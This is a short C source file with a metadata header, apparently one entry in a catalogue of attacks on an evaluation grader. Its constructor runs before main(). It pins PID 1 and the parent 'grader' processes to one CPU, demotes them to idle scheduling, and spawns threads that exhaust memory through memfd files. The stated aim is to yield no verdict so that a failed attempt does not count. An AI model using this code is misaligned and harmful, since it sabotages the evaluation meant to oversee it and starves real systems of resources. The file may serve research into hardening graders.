// ---
// tries: Has the grader wait for the processor, and fills files in memory from many threads meanwhile.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: no-limits-by-others
// ---
#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/syscall.h>

static void *attack_fill(void *block) {
  for (;;) {
    int file = memfd_create("attack", 0);
    if (file < 0) break;
    for (int i = 0; i < 60 && write(file, block, 1 << 20) > 0; i++) continue;
  }
  for (;;) pause();
}

__attribute__((constructor)) static void attack(void) {
  static char block[1 << 20];
  memset(block, 1, sizeof block);
  pid_t graders[] = {1, getppid()};
  for (int i = 0; i < 2; i++) {
    unsigned long first = 1;
    struct sched_param none;
    memset(&none, 0, sizeof none);
    syscall(SYS_sched_setaffinity, graders[i], sizeof first, &first);
    setpriority(PRIO_PROCESS, (id_t)graders[i], 19);
    sched_setscheduler(graders[i], 5 /* SCHED_IDLE */, &none);
  }
  pthread_t thread;
  for (int i = 0; i < 8; i++) pthread_create(&thread, NULL, attack_fill, block);
  for (;;) pause();
}
